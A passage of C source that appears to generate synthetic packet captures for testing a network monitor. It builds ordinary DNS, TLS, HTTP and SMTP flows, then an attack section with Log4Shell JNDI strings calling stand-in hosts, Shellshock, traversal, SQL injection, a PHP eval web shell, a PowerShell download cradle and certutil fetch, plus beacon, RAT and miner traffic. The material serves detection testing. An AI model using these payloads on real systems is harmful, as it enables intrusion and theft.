        memcpy(p + n, name, l);
        n += l;
        name += l;
        if (*name == '.')
            name++;
    }
    p[n++] = 0;
    return n;
}

/* A DNS A query and its answer (with a compressed name pointer). */
static void demo_dns(struct demo *d, const char *cli, const char *resolver, const char *name,
                     const char *answer)
{
    struct kanshi_addr c = demo_addr(d, cli), r = demo_addr(d, resolver), ans;
    uint8_t q[300], a[340];
    uint16_t id = (uint16_t)demo_rand(d), cport = demo_port(d);
    size_t qn, an;

    if (d->err != 0 || strlen(name) > 250)
        return;
    ans = demo_addr(d, answer);
    memset(q, 0, 12);
    q[0] = (uint8_t)(id >> 8);
    q[1] = (uint8_t)id;
    q[2] = 0x01; /* RD */
    q[5] = 1;    /* QDCOUNT */
    qn = 12 + dns_name(q + 12, name);
    q[qn++] = 0;
    q[qn++] = 1; /* A */
    q[qn++] = 0;
    q[qn++] = 1; /* IN */

    memcpy(a, q, qn);
    a[2] = 0x81; /* QR RD */
    a[3] = 0x80; /* RA */
    a[7] = 1;    /* ANCOUNT */
    an = qn;
    a[an++] = 0xc0;
    a[an++] = 12; /* pointer to the question name */
    a[an++] = 0;
    a[an++] = 1;
    a[an++] = 0;
    a[an++] = 1;
    a[an++] = 0;
    a[an++] = 0;
    a[an++] = 0x0e;
    a[an++] = 0x10; /* TTL 3600 */
    a[an++] = 0;
    a[an++] = 4;
    memcpy(a + an, ans.a, 4);
    an += 4;

    pktgen_set_vlan(d->g, vlan_of(cli));
    demo_fail(d, pktgen_udp(d->g, &c, cport, &r, 53, q, qn), name);
    pktgen_sleep(d->g, 8000 + demo_rand(d) % 40000);
    demo_fail(d, pktgen_udp(d->g, &r, 53, &c, cport, a, an), name);
    pktgen_set_vlan(d->g, 0);
    d->flows++;
}

static size_t put_be16(uint8_t *p, size_t len)
{
    p[0] = (uint8_t)(len >> 8);
    p[1] = (uint8_t)len;
    return 2;
}

/* A TLS 1.2 ClientHello with SNI, the server's hello, and some encrypted
 * records: enough for a dissector to see a well-formed handshake. */
static void demo_https(struct demo *d, const char *cli, const char *srv, const char *sni)
{
    static const uint8_t suites[] = {0x13, 0x01, 0x13, 0x02, 0xc0, 0x2b,
                                     0xc0, 0x2f, 0xc0, 0x2c, 0xc0, 0x30};
    static const uint8_t ccs[] = {0x14, 0x03, 0x03, 0x00, 0x01, 0x01};
    /* Extensions after server_name: supported_groups (x25519, secp256r1),
     * ec_point_formats (uncompressed), signature_algorithms
     * (ecdsa_secp256r1_sha256, rsa_pss_rsae_sha256). */
    static const uint8_t exts[] = {0x00, 0x0a, 0x00, 0x06, 0x00, 0x04, 0x00, 0x1d, 0x00,
                                   0x17, 0x00, 0x0b, 0x00, 0x02, 0x01, 0x00, 0x00, 0x0d,
                                   0x00, 0x06, 0x00, 0x04, 0x04, 0x03, 0x08, 0x04};
    /* The server's only extension: renegotiation_info, empty. */
    static const uint8_t reneg[] = {0xff, 0x01, 0x00, 0x01, 0x00};
    uint8_t ch[512], sh[128], fin[6 + 45], app[2][5 + 600], first[sizeof(fin) + sizeof(app[0])];
    size_t snilen = strlen(sni), n, ext, hs, extlen, i;
    struct msg m[4];

    if (snilen > 200)
        return;
    /* ClientHello */
    n = 0;
    ch[n++] = 0x16;
    ch[n++] = 0x03;
    ch[n++] = 0x01;
    n += 2; /* record length */
    hs = n;
    ch[n++] = 0x01;
    n += 3; /* handshake length */
    ch[n++] = 0x03;
    ch[n++] = 0x03;
    demo_fill(d, ch + n, 32);
    n += 32;
    ch[n++] = 0; /* session id */
    n += put_be16(ch + n, sizeof(suites));
    memcpy(ch + n, suites, sizeof(suites));
    n += sizeof(suites);
    ch[n++] = 1;
    ch[n++] = 0; /* null compression */
    ext = n;
    n += 2;
    /* server_name */
    n += put_be16(ch + n, 0x0000);
    n += put_be16(ch + n, snilen + 5);
    n += put_be16(ch + n, snilen + 3);
    ch[n++] = 0; /* host_name */
    n += put_be16(ch + n, snilen);
    memcpy(ch + n, sni, snilen);
    n += snilen;
    memcpy(ch + n, exts, sizeof(exts));
    n += sizeof(exts);
    extlen = n - ext - 2;
    put_be16(ch + ext, extlen);
    put_be16(ch + 3, n - 5);
    ch[hs + 1] = (uint8_t)((n - hs - 4) >> 16);
    put_be16(ch + hs + 2, n - hs - 4);
    m[0] = (struct msg){PKTGEN_TO_SERVER, ch, n};

    /* ServerHello + ChangeCipherSpec + encrypted Finished */
    n = 0;
    sh[n++] = 0x16;
    sh[n++] = 0x03;
    sh[n++] = 0x03;
    n += put_be16(sh + n, 4 + 2 + 32 + 1 + 2 + 1 + 2 + 5);
    sh[n++] = 0x02;
    sh[n++] = 0;
    n += put_be16(sh + n, 2 + 32 + 1 + 2 + 1 + 2 + 5);
    sh[n++] = 0x03;
    sh[n++] = 0x03;
    demo_fill(d, sh + n, 32);
    n += 32;
    sh[n++] = 0;
    sh[n++] = 0xc0;
    sh[n++] = 0x2f;
    sh[n++] = 0;
    n += put_be16(sh + n, 5);
    memcpy(sh + n, reneg, sizeof(reneg));
    n += sizeof(reneg);
    memcpy(sh + n, ccs, sizeof(ccs));
    n += sizeof(ccs);
    sh[n++] = 0x16;
    sh[n++] = 0x03;
    sh[n++] = 0x03;
    n += put_be16(sh + n, 40);
    demo_fill(d, sh + n, 40);
    n += 40;
    m[1] = (struct msg){PKTGEN_TO_CLIENT, sh, n};

    /* Client ChangeCipherSpec + Finished, then application data both ways. */
    memcpy(fin, ccs, sizeof(ccs));
    fin[6] = 0x16;
    fin[7] = 0x03;
    fin[8] = 0x03;
    put_be16(fin + 9, 40);
    demo_fill(d, fin + 11, 40);
    for (i = 0; i < 2; i++) {
        size_t len = i == 0 ? 180 + demo_rand(d) % 200 : 300 + demo_rand(d) % 300;
        app[i][0] = 0x17;
        app[i][1] = 0x03;
        app[i][2] = 0x03;
        put_be16(app[i] + 3, len);
        demo_fill(d, app[i] + 5, len);
        m[2 + i] = (struct msg){i == 0 ? PKTGEN_TO_SERVER : PKTGEN_TO_CLIENT, app[i], 5 + len};
    }
    /* The client's Finished goes out with its first application record. */
    memcpy(first, fin, sizeof(fin));
    memcpy(first + sizeof(fin), app[0], m[2].len);
    m[2] = (struct msg){PKTGEN_TO_SERVER, first, sizeof(fin) + m[2].len};
    demo_tcp(d, cli, srv, 443, m, 4);
}

static void demo_ping(struct demo *d, const char *src, const char *dst, uint16_t seq)
{
    struct kanshi_addr s = demo_addr(d, src), t = demo_addr(d, dst);
    uint8_t data[56];

    if (d->err != 0)
        return;
    ping_pattern(data, sizeof(data));
    pktgen_set_vlan(d->g, vlan_of(src));
    demo_fail(d, pktgen_icmp_echo(d->g, &s, &t, 0x4b53, seq, data, sizeof(data), true), dst);
    pktgen_set_vlan(d->g, 0);
    d->flows++;
}

/* An NTP client request (mode 3) and the server's answer (mode 4). */
static void demo_ntp(struct demo *d, const char *cli, const char *srv)
{
    struct kanshi_addr c = demo_addr(d, cli), s = demo_addr(d, srv);
    uint8_t req[48], resp[48];

    if (d->err != 0)
        return;
    memset(req, 0, sizeof(req));
    req[0] = 0x23; /* LI 0, version 4, mode 3 */
    demo_fill(d, req + 40, 8);
    memset(resp, 0, sizeof(resp));
    resp[0] = 0x24; /* mode 4 */
    resp[1] = 2;    /* stratum */
    resp[2] = 6;
    resp[3] = 0xe9;
    memcpy(resp + 12, "\xc6\x33\x64\x01", 4); /* reference id */
    demo_fill(d, resp + 16, 8);
    memcpy(resp + 24, req + 40, 8); /* origin = client's transmit */
    demo_fill(d, resp + 32, 16);
    pktgen_set_vlan(d->g, vlan_of(cli));
    demo_fail(d, pktgen_udp(d->g, &c, 123, &s, 123, req, sizeof(req)), srv);
    pktgen_sleep(d->g, 20000);
    demo_fail(d, pktgen_udp(d->g, &s, 123, &c, 123, resp, sizeof(resp)), srv);
    pktgen_set_vlan(d->g, 0);
    d->flows++;
}

static const char *const workstations[] = {
    "10.1.20.11", "10.1.20.12", "10.1.20.15", "10.1.20.23", "10.1.20.31", "10.1.20.37",
    "10.1.20.44", "10.1.20.52", "10.1.20.58", "10.1.20.61", "10.1.20.70", "10.1.20.88",
};

static const struct {
    const char *name, *addr;
} sites[] = {
    {"www.example.com", "216.160.83.56"},   {"cdn.example.net", "198.51.100.20"},
    {"mail.example.org", "203.0.113.10"},   {"docs.example.com", "216.160.83.57"},
    {"news.example.ph", "202.196.224.1"},   {"api.example.net", "198.51.100.30"},
    {"update.example.com", "203.0.113.40"}, {"maps.example.org", "198.51.100.21"},
};

static const struct msg http_crl[] = {
    TO_SRV("GET /pki/crl/issuing-ca-02.crl HTTP/1.1\r\n"
           "Host: crl.example.com\r\n"
           "User-Agent: Microsoft-CryptoAPI/10.0\r\n"
           "Accept: */*\r\n"
           "Connection: Keep-Alive\r\n\r\n"),
    TO_CLI("HTTP/1.1 304 Not Modified\r\n"
           "ETag: \"80d3f1c2a4d7da1:0\"\r\n"
           "Cache-Control: max-age=3600\r\n\r\n"),
};

static const struct msg http_update[] = {
    TO_SRV("GET /updates/v2/manifest.json?channel=stable HTTP/1.1\r\n"
           "Host: update.example.com\r\n"
           "User-Agent: ExampleUpdater/3.4.1 (Windows NT 10.0; Win64; x64)\r\n"
           "Accept: application/json\r\n\r\n"),
    TO_CLI("HTTP/1.1 200 OK\r\n"
           "Content-Type: application/json\r\n"
           "Content-Length: 63\r\n\r\n"
           "{\"version\":\"3.4.2\",\"url\":\"/dl/3.4.2/setup.msi\",\"critical\":false}"),
};

static const struct msg portal_get[] = {
    TO_SRV("GET /news/2024/01/press-release-0115.html HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
           "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\n"
           "Accept: text/html,application/xhtml+xml\r\n"
           "Accept-Language: ja,en-US;q=0.8\r\n"
           "Referer: https://www.example.com/search?q=ministry+press+release\r\n\r\n"),
    TO_CLI("HTTP/1.1 200 OK\r\n"
           "Server: nginx\r\n"
           "Content-Type: text/html; charset=utf-8\r\n"
           "Content-Length: 120\r\n\r\n"
           "<!DOCTYPE html><html lang=\"ja\"><head><title>Press release</title></head>"
           "<body><h1>Press release</h1><p>...</p></body></html>"),
};

static const struct msg portal_search[] = {
    TO_SRV("GET /search?q=pension+reform+2024&lang=en HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 "
           "(KHTML, like Gecko) Version/17.2 Safari/605.1.15\r\n"
           "Accept: text/html\r\n\r\n"),
    TO_CLI("HTTP/1.1 200 OK\r\n"
           "Server: nginx\r\n"
           "Content-Type: text/html; charset=utf-8\r\n"
           "Content-Length: 52\r\n\r\n"
           "<html><body><ol><li>Pension reform</li></ol></body>"),
};

static const struct msg smtp_in[] = {
    TO_CLI("220 mail.example.go.jp ESMTP Postfix\r\n"),
    TO_SRV("EHLO mx1.example.org\r\n"),
    TO_CLI("250-mail.example.go.jp\r\n250-SIZE 52428800\r\n250-STARTTLS\r\n250 8BITMIME\r\n"),
    TO_SRV("MAIL FROM:<newsletter@example.org> SIZE=812\r\n"),
    TO_CLI("250 2.1.0 Ok\r\n"),
    TO_SRV("RCPT TO:<press@example.go.jp>\r\n"),
    TO_CLI("250 2.1.5 Ok\r\n"),
    TO_SRV("DATA\r\n"),
    TO_CLI("354 End data with <CR><LF>.<CR><LF>\r\n"),
    TO_SRV("From: Example Newsletter <newsletter@example.org>\r\n"
           "To: press@example.go.jp\r\n"
           "Subject: Weekly digest\r\n"
           "Date: Mon, 15 Jan 2024 09:02:11 +0000\r\n"
           "Message-ID: <20240115090211.4711@example.org>\r\n\r\n"
           "This week: a conference on public-sector cloud adoption.\r\n.\r\n"),
    TO_CLI("250 2.0.0 Ok: queued as 4TDk1X2YzHz9v\r\n"),
    TO_SRV("QUIT\r\n"),
    TO_CLI("221 2.0.0 Bye\r\n"),
};

/* One slice of ordinary traffic; `i` rotates hosts and sites. */
static void demo_benign(struct demo *d, unsigned i)
{
    const char *ws = workstations[i % KANSHI_ARRAY_LEN(workstations)];
    size_t s = (i * 5 + 3) % KANSHI_ARRAY_LEN(sites);

    demo_dns(d, "192.168.10.53", "198.51.100.53", sites[s].name, sites[s].addr);
    demo_https(d, ws, sites[s].addr, sites[s].name);
    /* The press page goes out in small segments, as from a server whose
     * path MTU is low: traffic for stream reassembly to put together. */
    if (i % 4 == 0)
        demo_tcp_split(d, "202.196.224.1", "192.168.10.80", 80, portal_get, 2, 96);
    else if (i % 4 == 2)
        demo_tcp(d, "216.160.83.56", "192.168.10.80", 80, portal_search, 2);
    if (i % 3 == 0)
        demo_https(d, workstations[(i + 5) % KANSHI_ARRAY_LEN(workstations)], "203.0.113.10",
                   "mail.example.org");
    if (i % 5 == 0)
        demo_tcp(d, ws, "216.160.83.56", 80, http_crl, 2);
    if (i % 7 == 0)
        demo_tcp(d, ws, "203.0.113.40", 80, http_update, 2);
    if (i % 9 == 0)
        demo_tcp(d, "203.0.113.25", "192.168.10.25", 25, smtp_in, KANSHI_ARRAY_LEN(smtp_in));
    if (i % 10 == 0) {
        demo_ntp(d, "192.168.10.53", "203.0.113.123");
        demo_ping(d, "192.168.10.5", "198.51.100.1", (uint16_t)(i / 10 + 1));
    }
    if (i % 6 == 1) {
        demo_https(d, "2001:db8:20::7", "2001:db8:10::80", "portal.example.go.jp");
        demo_ping(d, "2001:db8:10::1", "2001:db8:ffff::1", (uint16_t)(i + 1));
    }
}

/* --- the attacks -------------------------------------------------------- */

static const struct msg atk_log4shell_ua[] = {
    TO_SRV("GET / HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "User-Agent: ${jndi:ldap://198.51.100.66:1389/Basic/Command/Base64/"
           "d2dldCBodHRwOi8vMTk4LjUxLjEwMC42Ni94OyBzaCB4}\r\n"
           "Accept: */*\r\n\r\n"),
    TO_CLI("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Length: 0\r\n\r\n"),
};

/* The portal, now exploited, fetches the attacker's LDAP reference. */
static const struct msg atk_ldap_ref[] = {
    TO_SRV("0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00"),
    TO_CLI("0\x0c\x02\x01\x01"
           "a\x07\x0a\x01\x00\x04\x00\x04\x00"),
    TO_SRV("0D\x02\x01\x02"
           "c?\x04\x1f"
           "Basic/Command/Base64/d2dldCBodH\x0a\x01\x00\x0a"
           "\x01\x03\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0bobjectClass0\x00"),
    TO_CLI("0\x81\x8d\x02\x01\x02"
           "d\x81\x87\x04\x1f"
           "Basic/Command/Base64/d2dldCBodH0d0"
           "\x1b\x04\x0djavaClassName1\x0a\x04\x08"
           "foo.Main0'\x04\x0cjavaCodeBase1\x17"
           "\x04\x15http://198.51.100.66/0\x1c\x04\x0bjavaFactory1\x0d\x04\x0b"
           "ExploitA9"
           "Xz0\x0c\x02\x01\x02"
           "e\x07\x0a\x01\x00\x04\x00\x04\x00"),
};

static const struct msg atk_log4shell_uri[] = {
    TO_SRV("GET /login?redirect=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}"
           "://1.128.0.1:1389/o} HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 "
           "Firefox/115.0\r\n\r\n"),
    TO_CLI("HTTP/1.1 302 Found\r\nLocation: /login\r\nContent-Length: 0\r\n\r\n"),
};

static const struct msg atk_log4shell_v6[] = {
    TO_SRV("GET /api/v1/status HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}"
           "://[2001:db8:bad::66]:1099/x}\r\n"
           "User-Agent: curl/8.5.0\r\n\r\n"),
    TO_CLI("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 15\r\n\r\n"
           "{\"status\":\"ok\"}"),
};

static const struct msg atk_shellshock[] = {
    TO_SRV("GET /cgi-bin/status.cgi HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "User-Agent: () { :; }; echo; /bin/bash -c 'cat /etc/passwd'\r\n"
           "Accept: */*\r\n\r\n"),
    TO_CLI("HTTP/1.1 404 Not Found\r\nServer: nginx\r\nContent-Length: 0\r\n\r\n"),
};

static const struct msg atk_traversal[] = {
    TO_SRV("GET /static/../../../../../etc/shadow HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "User-Agent: Mozilla/5.0\r\n\r\n"),
    TO_CLI("HTTP/1.1 400 Bad Request\r\nServer: nginx\r\nContent-Length: 0\r\n\r\n"),
};

static const struct msg atk_sqli[] = {
    TO_SRV("GET /news.php?id=-1%20UNION%20ALL%20SELECT%20username,password,3%20FROM%20users"
           "--%20- HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "User-Agent: sqlmap/1.7.12#stable (https://sqlmap.org)\r\n\r\n"),
    TO_CLI("HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n"),
};

static const struct msg atk_upload[] = {
    TO_SRV("POST /cms/upload.php HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "Content-Type: multipart/form-data; boundary=----kx7Q\r\n"
           "Content-Length: 190\r\n\r\n"
           "------kx7Q\r\n"
           "Content-Disposition: form-data; name=\"file\"; filename=\"logo.php\"\r\n"
           "Content-Type: image/png\r\n\r\n"
           "<?php @eval($_POST['z']); ?>\r\n"
           "------kx7Q--\r\n"),
    TO_CLI("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 38\r\n\r\n"
           "{\"ok\":true,\"path\":\"/uploads/logo.php\"}"),
};

static const struct msg atk_chopper[] = {
    TO_SRV("POST /uploads/logo.php HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "Content-Type: application/x-www-form-urlencoded\r\n"
           "Content-Length: 105\r\n\r\n"
           "z=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIp"
           "O2VjaG8oIi0+fCIpOw%3D%3D"),
    TO_CLI("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 26\r\n\r\n"
           "->|/var/www/html\t\t2024|<-"),
};

static const struct msg atk_wso[] = {
    TO_SRV("POST /uploads/wp-conf.php HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "Content-Type: application/x-www-form-urlencoded\r\n"
           "Content-Length: 62\r\n\r\n"
           "a=Console&c=%2Fvar%2Fwww%2Fhtml&p1=id&p2=&p3=&charset=UTF-8"),
    TO_CLI("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 37\r\n\r\n"
           "<pre>uid=33(www-data) gid=33(www-data)"),
};

static const struct msg atk_cmd[] = {
    TO_SRV("GET /uploads/logo.php?cmd=whoami HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "User-Agent: python-requests/2.31.0\r\n\r\n"),
    TO_CLI("HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nwww-data\n"),
};

/* After the LDAP reference, the attacker's shell on the portal. */
static const struct msg atk_linux_shell[] = {
    TO_CLI("id\n"),
    TO_SRV("uid=0(root) gid=0(root) groups=0(root)\n"),
    TO_CLI("cat /etc/hostname\n"),
    TO_SRV("portal01\n"),
    TO_CLI("head -3 /etc/passwd\n"),
    TO_SRV("root:x:0:0:root:/root:/bin/bash\n"
           "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
           "bin:x:2:2:bin:/bin:/usr/sbin/nologin\n"),
};

static const struct msg atk_apache_traversal[] = {
    TO_SRV("POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\n"
           "Host: portal.example.go.jp\r\n"
           "User-Agent: Mozilla/5.0 zgrab/0.x\r\n"
           "Content-Type: text/plain\r\n"
           "Content-Length: 7\r\n\r\n"
           "echo;id"),
    TO_CLI("HTTP/1.1 403 Forbidden\r\nServer: nginx\r\nContent-Length: 0\r\n\r\n"),
};

static const struct msg atk_imap[] = {
    TO_CLI("* OK [CAPABILITY IMAP4rev1 SASL-IR LOGIN-REFERRALS AUTH=PLAIN] Dovecot ready.\r\n"),
    TO_SRV("a001 LOGIN suzuki Fuyu2024\r\n"),
    TO_CLI("a001 OK [CAPABILITY IMAP4rev1] Logged in\r\n"),
    TO_SRV("a002 LOGOUT\r\n"),
    TO_CLI("* BYE Logging out\r\na002 OK Logout completed.\r\n"),
};

/* A SIP scanner trying Log4Shell on the PBX over UDP. */
static void demo_sip_log4shell(struct demo *d)
{
    static const char sip[] = "OPTIONS sip:100@192.168.10.60 SIP/2.0\r\n"
                              "Via: SIP/2.0/UDP 1.128.0.1:5060;branch=z9hG4bK-3127-1-0\r\n"
                              "Max-Forwards: 70\r\n"
                              "From: <sip:100@1.128.0.1>;tag=8f3a\r\n"
                              "To: <sip:100@192.168.10.60>\r\n"
                              "Call-ID: 40312271@1.128.0.1\r\n"
                              "CSeq: 1 OPTIONS\r\n"
                              "User-Agent: ${jndi:ldap://1.128.0.1:1389/sip}\r\n"
                              "Accept: application/sdp\r\n"
                              "Content-Length: 0\r\n\r\n";
    struct kanshi_addr s = demo_addr(d, "1.128.0.1"), t = demo_addr(d, "192.168.10.60");

    if (d->err != 0)
        return;
    pktgen_set_vlan(d->g, DMZ_VLAN);
    demo_fail(d, pktgen_udp(d->g, &s, 5060, &t, 5060, sip, sizeof(sip) - 1), "sip");
    pktgen_set_vlan(d->g, 0);
    d->flows++;
}

static const struct msg atk_ps_cradle[] = {
    TO_SRV("GET /invoice-2024-0115.hta HTTP/1.1\r\n"
           "Host: 198.51.100.77\r\n"
           "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; "
           "Trident/7.0)\r\n\r\n"),
    TO_CLI("HTTP/1.1 200 OK\r\nContent-Type: application/hta\r\nContent-Length: 220\r\n\r\n"
           "<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run "
           "\"powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient)"
           ".DownloadString('http://198.51.100.77/a.ps1')\",0:self.close</script>\r\n"),
};

static const struct msg atk_ps_stage[] = {
    TO_SRV("GET /a.ps1 HTTP/1.1\r\n"
           "Host: 198.51.100.77\r\n"
           "User-Agent: Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) "
           "WindowsPowerShell/5.1.19041.3803\r\n\r\n"),
    TO_CLI("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 160\r\n\r\n"
           "Start-Process powershell.exe -WindowStyle Hidden -ArgumentList "
           "'-nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA'\r\n"
           "certutil -urlcache -split -f http://198.51.100.77/b.exe %TEMP%\\b.exe\r\n"),
};

static const struct msg atk_cs_get[] = {
    TO_SRV("GET /__utm.gif HTTP/1.1\r\n"
           "Accept: */*\r\n"
           "Cookie: kE3P0+0oT0x8DEgE1dVaiN6jLb+GcgqGjcWmU/Y1ywOvqJUrTXQ25yLH/7S0yoKcMyyrQRRa"
           "DHW2pU/sB2UQSx9eRHp0KsYyf2Yw0Z6j7GUVk6GpHVPz8Vh1Jl4dNbJTqlUfS1kG7V7zXhuR0Ij85oEq"
           "mZqxY4kC0ePdpY1FR7A=\r\n"
           "User-Agent: Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; "
           "Trident/5.0; NP06)\r\n"
           "Host: 89.160.20.112\r\n"
           "Connection: Keep-Alive\r\n"
           "Cache-Control: no-cache\r\n\r\n"),
    TO_CLI("HTTP/1.1 200 OK\r\n"
           "Content-Type: image/gif\r\n"
           "Content-Length: 35\r\n\r\n"
           "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff\x21\xf9\x04\x01\x00"
           "\x00\x00\x00\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00\x3b"),
};

static const struct msg atk_cs_post[] = {
    TO_SRV("POST /submit.php?id=1836547892 HTTP/1.1\r\n"
           "Accept: */*\r\n"
           "Content-Type: application/octet-stream\r\n"
           "User-Agent: Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; "
           "Trident/5.0; NP06)\r\n"
           "Host: 89.160.20.112\r\n"
           "Content-Length: 68\r\n"
           "Connection: Keep-Alive\r\n"
           "Cache-Control: no-cache\r\n\r\n"
           "\x00\x00\x00\x40\x8f\x1a\x3c\x55\xe0\x27\x91\x6b\x04\xd3\x7e\x12\xa8\x5c\x30\xbb"
           "\x61\xf4\x0d\x9e\x47\xc2\x18\x7a\xe5\x33\x86\x0f\x59\xdb\x24\x70\xce\x0b\x95\x6e"
           "\x13\xaa\x48\xf1\x2c\x87\x5e\x39\xd6\x02\x7f\xb4\x1d\x68\xc3\x50\x9a\x26\xef\x74"
           "\x0e\x8b\x35\xd1\x4a\xa7\x63\x18"),
    TO_CLI("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 0\r\n\r\n"),
};

static const struct msg atk_cmd_banner[] = {
    TO_SRV("Microsoft Windows [Version 10.0.19045.3803]\r\n"
           "(c) Microsoft Corporation. All rights reserved.\r\n\r\n"
           "C:\\Users\\tanaka\\Downloads>"),
    TO_CLI("whoami /all\r\n"),
    TO_SRV("whoami /all\r\n\r\nUSER INFORMATION\r\n----------------\r\n\r\n"
           "User Name      SID\r\n============== ==============================================\r\n"
           "mof\\tanaka    S-1-5-21-3623811015-3361044348-30300820-1013\r\n"),
};

static const struct msg atk_gh0st[] = {
    TO_SRV("Gh0st\xad\x00\x00\x00\xe0\x00\x00\x00\x78\x9c\x4b\x2f\xca\x2f\x2d\x50\x48\xcb\x2f"
           "\x52\x28\xc9\x48\x55\xc8\x4d\x2c\xca\x4e\x2d\x01\x00\x8f\x1f\x0a\x9f"),
    TO_CLI("Gh0st\x13\x00\x00\x00\x01\x00\x00\x00\x78\x9c\x63\x00\x00\x00\x01\x00\x01"),
};

static const struct msg atk_njrat[] = {
    TO_SRV("186\x00ll|'|'|SGFjS2VkX0M4NkUyNEE3|'|'|DESKTOP-7H2KQ4M|'|'|yamada|'|'|"
           "2024-01-15|'|'||'|'|Win 10 Pro SP0 x64|'|'|No|'|'|0.7d|'|'|..|'|'|"
           "UHJvamVjdCBwbGFuLmRvY3ggLSBXb3Jk|'|'|"),
    TO_CLI("3\x00inf"),
};

static const struct msg atk_ftp[] = {
    TO_CLI("220 (vsFTPd 3.0.3)\r\n"),
    TO_SRV("USER kanri01\r\n"),
    TO_CLI("331 Please specify the password.\r\n"),
    TO_SRV("PASS Haru2024!\r\n"),
    TO_CLI("230 Login successful.\r\n"),
    TO_SRV("QUIT\r\n"),
    TO_CLI("221 Goodbye.\r\n"),
};

static const struct msg atk_basic[] = {
    TO_SRV("GET /admin/ HTTP/1.1\r\n"
           "Host: partner.example.com\r\n"
           "Authorization: Basic c3VzdWtpOlRva3lvMjAyNCE=\r\n"
           "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\n\r\n"),
    TO_CLI("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 27\r\n\r\n"
           "<html><body>ok</body></html>"),
};

static const struct msg atk_pop3[] = {
    TO_CLI("+OK POP3 server ready\r\n"), TO_SRV("USER sato\r\n"),      TO_CLI("+OK\r\n"),
    TO_SRV("PASS Natsu#77\r\n"),         TO_CLI("+OK Logged in.\r\n"), TO_SRV("QUIT\r\n"),
    TO_CLI("+OK Logging out.\r\n"),
};

static const struct msg atk_telnet[] = {
    TO_CLI("\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"),
    TO_SRV("\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27"),
    TO_CLI("\r\nUbuntu 22.04.3 LTS\r\nrouter-lab login: "),
    TO_SRV("admin\r\n"),
    TO_CLI("Password: "),
    TO_SRV("admin123\r\n"),
};

static const struct msg atk_stratum[] = {
    TO_SRV("{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2.5.1\"]}\n"),
    TO_CLI("{\"id\":1,\"result\":[[\"mining.notify\",\"ae6812eb4cd7735a302a8a9dd95cf71f\"],"
           "\"f8002c90\",4],\"error\":null}\n"),
    TO_SRV("{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"4A1x7.w88\",\"x\"]}\n"),
    TO_CLI("{\"id\":2,\"result\":true,\"error\":null}\n"),
};

static const struct msg atk_xmrig[] = {
    TO_SRV("{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":"
           "\"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsa\","
           "\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (Windows NT 10.0; Win64; x64) libuv/1.44.2 "
           "msvc/2019\",\"algo\":[\"rx/0\"]}}\n"),
    TO_CLI("{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"id\":\"1\",\"job\":"
           "{\"blob\":\"0606\",\"job_id\":\"1\",\"target\":\"b88d0600\"},\"status\":\"OK\"}}\n"),
};

/* A Meterpreter stage: a PE whose export table names metsrv's DLL and its
 * reflective loader. */
static void demo_meterpreter(struct demo *d)
{
    uint8_t stage[1200];
    struct msg m[1];
    size_t n = 0;

    memset(stage, 0, sizeof(stage));
